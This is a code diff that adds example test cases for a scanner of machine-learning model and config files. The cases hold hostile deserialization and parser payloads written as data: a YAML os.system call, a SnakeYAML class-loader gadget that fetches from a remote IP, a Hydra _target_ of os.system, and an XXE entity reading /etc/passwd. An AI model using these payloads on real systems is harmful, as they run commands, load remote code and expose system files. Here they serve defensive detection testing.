@@ -394,6 +394,33 @@ const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> =
   MA505: () => ({
     files: { "tokenizer_config.json": text(JSON.stringify({ chat_template: { default: 42 } })) },
   }),
+  MA520: () => ({ files: { "model_config.yaml": text("a: [1, 2\n") } }),
+  MA521: () => ({
+    files: { "config.json": text(JSON.stringify({ vocab: "x".repeat(2_000_000) })) },
+    options: { scannerOptions: { config: { maxBytes: 1_000_000 } } },
+  }),
+  MA522: () => ({
+    files: { "config.json": text('{"_target_": "torch.nn.Linear", "_target_": "os.system"}') },
+  }),
+  MA523: () => ({ files: { "config.yaml": text("run: !!python/object/apply:os.system ['echo pwned']\n") } }),
+  MA524: () => ({
+    files: {
+      "config.yaml": text(
+        '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.7/"]]]]\n',
+      ),
+    },
+  }),
+  MA525: fixtureCase("model.nemo", "config/malicious/asr_model_os_system.nemo"),
+  MA526: () => ({ files: { "config.yaml": text("_target_: mypkg.build_everything\n") } }),
+  MA527: fixtureCase("config.yaml", "config/malicious/alias_bomb.yaml"),
+  MA528: () => ({
+    files: {
+      "model.pmml": text(
+        '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML version="4.4"><Header>&x;</Header></PMML>\n',
+      ),
+    },
+  }),
+  MA529: fixtureCase("lolz.xml", "config/malicious/entity_bomb.xml"),
 };
 
 /**
